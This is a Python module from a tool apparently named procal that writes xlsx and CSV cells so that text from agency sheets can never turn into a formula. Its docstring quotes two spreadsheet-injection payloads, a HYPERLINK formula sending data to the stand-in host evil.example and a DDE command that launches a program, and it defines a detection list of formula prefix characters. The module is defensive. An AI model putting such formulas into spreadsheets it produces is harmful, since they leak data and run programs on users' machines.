"""The one way procal puts a value into a spreadsheet cell (xlsx or CSV): text stays text.

Every workbook procal writes — the executives' report (``reports/disbursement-*.xlsx``), the plan
report (``procal export``), the ``schedule``/``status`` write-back — goes through
:func:`write_cell` (or :func:`append_row`), and every CSV through :func:`csv_cell`. Text from an
agency's sheet can start with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return (or the
full-width ``＝ ＋ － ＠`` some Thai input methods produce); spreadsheet programs read such
text as a formula (``=HYPERLINK("http://evil.example/?"&A1)`` leaks data, ``+cmd|' /C calc'!A0``
runs a program). So:

* xlsx: the cell is a string cell (never a formula) and gets ``quotePrefix`` — Excel shows the
  text as typed and will not turn it into a formula when someone edits the cell;
* CSV: the text gets a leading ``'`` (the OWASP advice), which Excel hides.

Numbers, dates and booleans are written as such. ``tests/sheets_io/test_injection.py`` plants
injection strings in every input field, runs procal, and scans every cell of every file written.
"""

from __future__ import annotations

from datetime import date, datetime
from decimal import Decimal
from typing import Iterable

# characters that make a spreadsheet program read a cell as a formula (ASCII and full-width)
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20",
                    "\u2212", "\ufe62", "\ufe63", "\ufe66")


def cell_value(v: object) -> object:
    """Values procal writes: dates as ISO text, Decimal as float, None as ''."""
    if v is None:
        return ""
    if isinstance(v, datetime):
        return v.date().isoformat() if not (v.hour or v.minute or v.second) else v.isoformat()
    if isinstance(v, date):
        return v.isoformat()
    if isinstance(v, Decimal):
        return float(v)
    if isinstance(v, (str, int, float, bool)):
        return v
    return str(v)


def looks_like_formula(text: object) -> bool:
    """True for text a spreadsheet program would read as a formula (after leading spaces)."""
    return isinstance(text, str) and text.lstrip(" \u00a0").startswith(FORMULA_PREFIXES)


def write_cell(cell, value: object):
    """openpyxl: write ``value`` into ``cell``; text is always text, formula-like text quoted."""
    value = cell_value(value)
    cell.value = value
    if isinstance(value, str):
        cell.data_type = "s"
        if looks_like_formula(value):
            cell.quotePrefix = True
    return cell


def write_date(cell, value: date, number_format: str):
    """openpyxl: a real date (it sorts and filters as a date) shown with ``number_format``, e.g.
    the Buddhist-Era ``[$-107041E]d mmm yyyy``; anything else goes through :func:`write_cell`."""
    if isinstance(value, date) and not isinstance(value, datetime):
        cell.value = value
        cell.number_format = number_format
        return cell
    return write_cell(cell, value)


def append_row(ws, values: Iterable[object]) -> int:
    """``ws.append`` through :func:`write_cell`; returns the row number written."""
    row = ws.max_row + 1 if (ws.max_row > 1 or ws.cell(row=1, column=1).value is not None
                             or ws.max_column > 1) else 1
    for c, v in enumerate(values, start=1):
        write_cell(ws.cell(row=row, column=c), v)
    return row


def csv_cell(v: object) -> object:
    """A CSV value: formula-like text gets a leading ``'`` (OWASP CSV-injection advice)."""
    v = cell_value(v)
    if looks_like_formula(v):
        return "'" + v
    return v


__all__ = ["FORMULA_PREFIXES", "cell_value", "looks_like_formula", "write_cell", "write_date",
           "append_row",
           "csv_cell"]
